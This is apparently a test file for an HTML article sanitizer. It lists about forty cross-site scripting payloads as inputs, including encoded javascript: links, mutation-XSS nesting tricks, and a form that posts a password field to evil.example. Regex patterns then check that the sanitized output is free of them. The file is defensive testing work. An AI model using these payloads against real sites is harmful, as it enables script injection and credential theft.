import { processorSeconds } from '../../../../test/support/processor-time.js';
import { parseDocument } from '../dom.js';
import { articleHtml } from './article-html.js';

const BASE = 'https://courier.example/stories/one';
const clean = (html: string): string =>
  articleHtml(parseDocument(`<html><body>${html}</body></html>`).body, BASE);

describe('what could run or reach out is gone', () => {
  it.each([
    '<script>alert(1)</script>',
    '<ScRiPt src=//evil.example/x.js></sCrIpT>',
    '<img src=x onerror=alert(1)>',
    '<img src="javascript:alert(1)">',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" java\tscript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="&#x6A&#x61&#x76&#x61script&colon;alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<svg><script>alert(1)</script></svg>',
    '<svg/onload=alert(1)>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<style>@import "https://evil.example/x.css"; p { background: url(javascript:alert(1)) }</style>',
    '<p style="background: url(javascript:alert(1))">x</p>',
    '<div onclick="alert(1)" onmouseover=alert(1)>x</div>',
    '<iframe src="https://evil.example/"></iframe>',
    '<iframe src="https://evil.example/videos/embed/0123456789abcdef01234"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe src="https://www.youtube.com.evil.example/embed/abcDEF12345"></iframe>',
    '<object data="x.swf"><embed src="x.swf"></object>',
    '<form action="https://evil.example/"><input name=password><button>x</button></form>',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<video><source src="javascript:alert(1)" onerror="alert(1)"></video>',
    '<template><script>alert(1)</script></template>',
    '<p id="location" name="cookie">x</p>',
    '<a href="https://x.example/" target="_blank" ping="https://evil.example/">x</a>',
    '<!--><img src=x onerror=alert(1)>-->',
    '<![CDATA[<img src=x onerror=alert(1)>]]>',
    '<img alt="`><script>alert(1)</script>" src="a.jpg">',
    '<<script>alert(1)//<</script>',
    '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
    '<xmp><img title="</xmp><img src=x onerror=alert(1)>"></xmp>',
    '<x-component onfocus=alert(1) tabindex=1 autofocus>x</x-component>',
  ])('%s', (html) => {
    const tags = [...clean(html).matchAll(/<[^>]*>/gu)].join(' ').toLowerCase();

    expect(tags).not.toMatch(
      /<(?:script|style|svg|math|object|embed|form|input|button|base|meta|link|template|textarea|xmp|noscript)/u,
    );
    expect(tags).not.toMatch(
      /\son\w+=|javascript:|vbscript:|data:|style=|srcdoc|evil\.example|\sid=|ping=/u,
    );
  });
});

describe('what a reader needs stays', () => {
  it.each([
    ['<p>one <em>two</em></p>', '<p>one <em>two</em></p>'],
    ['<h2 class="x">Title</h2>', '<h2 id="part-Title">Title</h2>'],
    ['<pre><code>a &lt; b</code></pre>', '<pre><code>a &lt; b</code></pre>'],
    [
      '<table><tr><td colspan="2">x</td></tr></table>',
      '<table><tr><td colspan="2">x</td></tr></table>',
    ],
    ['<ol start="3"><li>x</li></ol>', '<ol start="3"><li>x</li></ol>'],
    ['<p dir="rtl" lang="ar">x</p>', '<p dir="rtl" lang="ar">x</p>'],
    [
      '<a href="../two#three">x</a>',
      '<a href="https://courier.example/two#three" rel="noopener noreferrer">x</a>',
    ],
    [
      '<a href="mailto:a@b.example">x</a>',
      '<a href="mailto:a@b.example" rel="noopener noreferrer">x</a>',
    ],
    [
      '<figure><img src="/a.jpg" alt="A" width="9"><figcaption>c</figcaption></figure>',
      '<figure><img alt="A" width="9" src="https://courier.example/a.jpg" loading="lazy" /><figcaption>c</figcaption></figure>',
    ],
  ])('%s', (html, expected) => {
    expect(clean(html)).toBe(expected);
  });

  it('players of videos, in a box', () => {
    expect(clean('<iframe src="//player.vimeo.com/video/12345" onload="x()"></iframe>')).toMatch(
      /^<iframe src="https:\/\/player\.vimeo\.com\/video\/12345" sandbox="[^"]+" loading="lazy" allowfullscreen[^>]*><\/iframe>$/u,
    );
  });
});

it('takes no longer for sources of pictures than they have letters', async () => {
  const sources = '<source srcset="/a.webp"><source srcset="/a.avif">';
  const picture = `<p>${'some words of a text '.repeat(330)}</p><picture>${sources}<img src="/a.jpg"></picture>`;
  const article = picture.repeat(300);

  expect(await processorSeconds(() => clean(article))).toBeLessThan(2);
  expect(clean(picture)).not.toContain('<source');
});
